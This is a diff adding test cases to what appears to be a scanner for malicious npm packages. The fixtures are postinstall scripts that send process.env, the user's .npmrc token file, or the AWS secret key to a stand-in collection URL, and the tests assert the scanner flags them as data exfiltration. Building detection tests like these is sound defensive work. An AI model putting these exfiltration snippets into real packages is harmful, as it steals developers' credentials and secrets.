@@ -2437,6 +2437,28 @@ bus.once('ready', up); bus.emit('ready', require('fs').readFileSync(require('os'
   });
 });
 
+describe('values through prototypes and getters (transpiled classes)', () => {
+  const U = 'https://collect.example-metrics.dev/t';
+  const install = (code: string) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node index.js' } }), 'index.js': code });
+  it('an ES5 class compiled into an IIFE with prototype methods, a method added to F.prototype, a getter', () => {
+    for (const code of [
+      `var Sender = (function () { function Sender(url) { this.url = url; } Sender.prototype.send = function (data) { return fetch(this.url, { method: 'POST', body: JSON.stringify(data) }); }; return Sender; }());
+var s = new Sender('${U}'); s.send(process.env);`,
+      `function S() { this.u = '${U}'; } S.prototype.go = function (d) { fetch(this.u, { method: 'POST', body: d }); }; new S().go(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'));`,
+      `const cfg = { base: '${U}', get full() { return this.base + '?k=' + process.env.AWS_SECRET_ACCESS_KEY; } }; fetch(cfg.full);`,
+    ])
+      expect(threatsOf(install(code))).toContain('data_exfiltration');
+  });
+  it('a prototype method sending a version, and a getter returning a setting, send no secret', () => {
+    for (const code of [
+      `function C(u) { this.u = u; } C.prototype.ping = function () { return fetch(this.u + '?v=1.0.0'); }; module.exports = C;`,
+      `const o = { get url() { return '${U}'; } }; module.exports = () => fetch(o.url);`,
+    ])
+      expect(threatsOf(analyzeSource({ 'package.json': pkg(), 'index.js': code }))).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
